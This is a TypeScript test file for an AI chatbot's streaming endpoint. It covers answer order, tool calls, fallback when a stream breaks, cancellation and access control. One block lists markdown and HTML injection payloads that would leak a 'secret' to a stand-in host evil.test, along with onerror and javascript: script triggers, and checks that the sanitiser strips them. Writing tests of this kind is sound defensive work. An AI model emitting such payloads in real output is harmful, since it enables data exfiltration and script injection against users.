/** The answer as it is made: its order, its end by whoever stops it, streams that break off, and what is hostile in pieces. */
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { system } from '../../engine/server/kernel/principal.ts';
import { openStream } from '../support/event-stream.ts';
import { dataOf, one, type People, patch, signInAll } from '../support/journey.ts';
import { type ModelService, type Scripted, startModelService } from '../support/model-service.ts';
import { type Caller, startTestServer, type TestServer } from '../support/server.ts';

type Answered = { readonly text: string; readonly message: { type: string; content: string }; readonly session_id: string };
type Event = { readonly event: string; readonly data: Readonly<Record<string, unknown>> };
const PATH = '/v1/ai-chatbot/stream';

let server: TestServer;
let people: People;
let model: ModelService;
let url: string;
beforeAll(async () => {
  model = await startModelService();
  server = await startTestServer({
    areas: 'all',
    seed: true,
    config: { model: { url: model.url, name: 'stand-in', timeout: 10_000, tokensPerson: 1_000_000, tokensOrg: 10_000_000 } },
  });
  people = await signInAll(server);
  url = await server.server.fastify.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  model?.close();
  await server?.stop();
});

const later = () => server.clock.set(new Date(Date.parse(server.clock.now()) + 5_000).toISOString());
const asked = (latestMessage: string, more: object = { is_new_chat: true }) => ({ latestMessage, ...more });

/** All events of a whole answer. */
async function heard(caller: Caller, message: string, more?: object): Promise<readonly Event[]> {
  later();
  const { status, text, headers } = await caller.post(PATH, asked(message, more));
  expect(status, text).toBe(200);
  expect(headers['content-type']).toContain('text/event-stream');
  return text
    .split('\n\n')
    .filter((block) => block !== '')
    .map((block): Event => {
      const [, event = '', data = ''] = /^event: (\w+)\ndata: (.*)$/.exec(block) ?? [];
      return { event, data: JSON.parse(data) };
    });
}

/** The text after each step, as a page puts it together. */
function steps(events: readonly Event[]): readonly string[] {
  let text = '';
  return events
    .filter(({ event }) => event === 'text')
    .map(({ data }) => {
      text = text.slice(0, Number(data.from)) + String(data.text);
      return text;
    });
}
const answerOf = (events: readonly Event[]): Answered => {
  expect(events.filter(({ event }) => event === 'answer')).toHaveLength(1);
  expect(events.at(-1)?.event).toBe('answer');
  return events.at(-1)?.data as unknown as Answered;
};
const said = async (sessionId: string) =>
  server.server.parts.database.read(
    system('test'),
    async ({ kysely }) =>
      (
        await sql<{ role: string; text: string; tokens: number | null }>`select role, text, tokens from assistant_message
          where session_id = ${sessionId} order by id`.execute(kysely)
      ).rows,
  );
const stopped = async (text: string) =>
  server.server.parts.database.read(
    system('test'),
    async ({ kysely }) =>
      (
        await sql<{ role: string; tokens: number; opens: boolean; n: number }>`select role, tokens, opens,
          (select count(*)::integer from assistant_message as other where other.session_id = said.session_id) as n
          from assistant_message as said where text = ${text}`.execute(kysely)
      ).rows,
  );

describe('an answer that streams', () => {
  const words = 'There are **two** requests, 有两个, عاجلان, été 🛠 and that is all there is to say about them today.';

  it('grows in its order, whatever the network cuts, and ends with what is kept', async () => {
    model.play({ says: words, pause: 4 });
    const events = await heard(people.acme, 'How many?');
    const grown = steps(events);
    expect(grown.length).toBeGreaterThan(2);
    for (const [index, text] of grown.entries()) {
      expect(words.startsWith(text), text).toBe(true);
      expect(text.startsWith(grown[index - 1] ?? ''), text).toBe(true);
    }
    const { text, session_id, message } = answerOf(events);
    expect([text, message]).toEqual([words, { type: 'markdown', content: words }]);
    expect((await said(session_id)).map(({ role, text: kept }) => `${role}: ${kept}`)).toEqual(['user: How many?', `assistant: ${words}`]);
    expect(model.asked).toMatchObject([{ stream: true }]);
  });

  it('takes tools in pieces as well, and back what was said before them', async () => {
    model.play(
      {
        says: 'Let me look for that at once, it will not take long at all.',
        pause: 4,
        calls: [{ tool: 'list_service-request', input: { page_size: 1 } }],
      },
      { says: 'I found it.' },
    );
    const events = await heard(people.acme, 'requests');
    const grown = steps(events);
    const back = grown.indexOf('');
    expect(back).toBeGreaterThan(0);
    expect(grown.slice(back).join(' ')).not.toContain('Let me look');
    expect(answerOf(events).text).toBe('I found it.');
    expect(model.asked[1]?.messages.at(-1)?.content).toContain('"data"');
  });

  it('is the built-in one’s at once through the same call, as the plain call has it', async () => {
    model.play({ status: 500 });
    const { text, message } = answerOf(await heard(people.acme, 'urgent requests'));
    later();
    const plain = dataOf(await people.acme.get(`/v1/ai-chatbot/?${new URLSearchParams({ latestMessage: 'urgent requests' })}`));
    expect([text, message.type]).toEqual([plain.text, plain.message.type]);
  });
});

describe('a stream that breaks', () => {
  const says = 'This answer is long enough to be broken off somewhere in the middle of its many words.';
  it.each<[string, Scripted]>([
    ['breaks off', { says, breaks: 0.5, pause: 2 }],
    ['is not offered by the service', { says, refusesToStream: true }],
  ])('is asked for as a whole where it %s', async (_name, step) => {
    model.play((question) => (question.stream ? step : { says: 'The whole.' }));
    const events = await heard(people.acme, 'hello');
    expect(steps(events).at(-1) ?? '').not.toContain('This answer');
    expect(answerOf(events).text).toBe('The whole.');
    expect(model.asked.map(({ stream }) => stream ?? false)).toEqual([true, false]);
  });

  it('is taken as it is where the service answers with the whole', async () => {
    model.play({ raw: JSON.stringify({ choices: [{ message: { content: 'Whole.' } }] }) });
    expect(answerOf(await heard(people.acme, 'hello')).text).toBe('Whole.');
    expect(model.asked).toHaveLength(1);
  });

  it('is left to the built-in one where the whole does not come either', async () => {
    model.play((question) => (question.stream ? { says, breaks: 0.6, pause: 2 } : { status: 500 }));
    const { text } = answerOf(await heard(people.acme, 'urgent requests'));
    expect(text).toContain('Service requests:');
    expect(text).toContain('The language model did not answer');
  });
});

describe('what is hostile', () => {
  const hostile = [
    'See ![x](https://evil.test/p.png?d=secret) and [here](https://evil.test/?d=secret) or https://evil.test/secret there.',
    '<img src="https://evil.test/secret" onerror=alert(1)> [ref][1] [mine](/customer-requests) [two](//evil.test/secret) [js](javascript:alert(1))',
    '[a [b](https://evil.test/secret)](//evil.test/secret) &#60;script&#62; [slash](/&#47;evil.test/secret)',
    '[1]: https://evil.test/secret',
  ].join('\n');

  it('is shown at no step, wherever it is cut', async () => {
    let seen = 0;
    for (let round = 0; round < 6; round += 1) {
      model.play({ says: hostile, pause: round });
      const events = await heard(people.acme, 'hello');
      for (const text of [...steps(events), answerOf(events).text]) {
        seen += 1;
        expect(text).not.toMatch(/evil\.test|https?:|secret|javascript|<img|onerror/);
      }
      expect(answerOf(events).text).toContain('[mine](/customer-requests)');
    }
    expect(seen).toBeGreaterThan(12);
  });
});

describe('stop', () => {
  it('ends the work of the server and of the model, keeps no answer, and is paid for', async () => {
    const says = 'word '.repeat(400);
    model.play({ says, pause: 25 });
    later();
    const stream = await openStream(url + PATH, people.acme.token, undefined, asked('Tell me a long story'));
    await expect.poll(() => stream.events.length).toBeGreaterThan(0);
    stream.close();
    await expect.poll(() => model.left()).toBe(1);
    await expect.poll(() => stopped('Tell me a long story')).toMatchObject([{ role: 'user', opens: false, n: 1 }]);
    const [kept] = await stopped('Tell me a long story');
    expect(kept?.tokens).toBeGreaterThan(100);
    expect(model.asked).toHaveLength(1);
  });

  it('ends the plain call as well', async () => {
    model.play({ says: 'Too late.', pause: 8_000 });
    later();
    const control = new AbortController();
    const query = new URLSearchParams({ latestMessage: 'Another long story', is_new_chat: 'true' });
    const headers = { authorization: `Bearer ${people.acme.token}` };
    const call = fetch(`${url}/v1/ai-chatbot/?${query}`, { headers, signal: control.signal }).catch(() => 'left');
    await expect.poll(() => model.asked.length).toBe(1);
    control.abort();
    expect(await call).toBe('left');
    await expect.poll(() => model.left()).toBe(1);
    await expect.poll(() => stopped('Another long story')).toMatchObject([{ role: 'user', n: 1 }]);
  });
});

describe('who may', () => {
  it('is refused as by any call before the first word', async () => {
    model.play({ says: 'Yes.' });
    later();
    const ask = (body: object, caller = people.acme) => caller.post(PATH, body);
    expect((await ask(asked('   '))).status).toBe(400);
    expect((await ask(asked('x'.repeat(2001)))).status).toBe(422);
    expect((await ask(asked('hello', { other: true }))).status).toBe(422);
    expect((await ask(asked('hello', { session_id: 'none' }))).status).toBe(404);
    const { session_id } = answerOf(await heard(people.acme, 'hello'));
    expect((await ask(asked('hello', { session_id }), people.acmeUser)).status).toBe(404);
    expect((await ask(asked('hello', { session_id }))).status).toBe(200);
    expect((await server.inject('POST', PATH, { body: asked('hello') })).status).toBe(401);
    const statuses = [];
    for (let count = 0; count < 21; count += 1) statuses.push((await ask(asked('hello'), people.globex)).status);
    expect([statuses.slice(0, 20).every((status) => status === 200), statuses[20]]).toEqual([true, 429]);
  });

  it('is not there where the assistant is switched off', async () => {
    const owner = await server.as('owner@demo.test');
    const flag = await one(owner, 'feature-flag', "doc.code == 'TMS250613736422'");
    dataOf(await patch(owner, 'feature-flag', flag.id, { is_on: false }));
    expect((await people.acme.post(PATH, asked('hello'))).status).toBe(404);
    dataOf(await patch(owner, 'feature-flag', flag.id, { is_on: true }));
  });
});
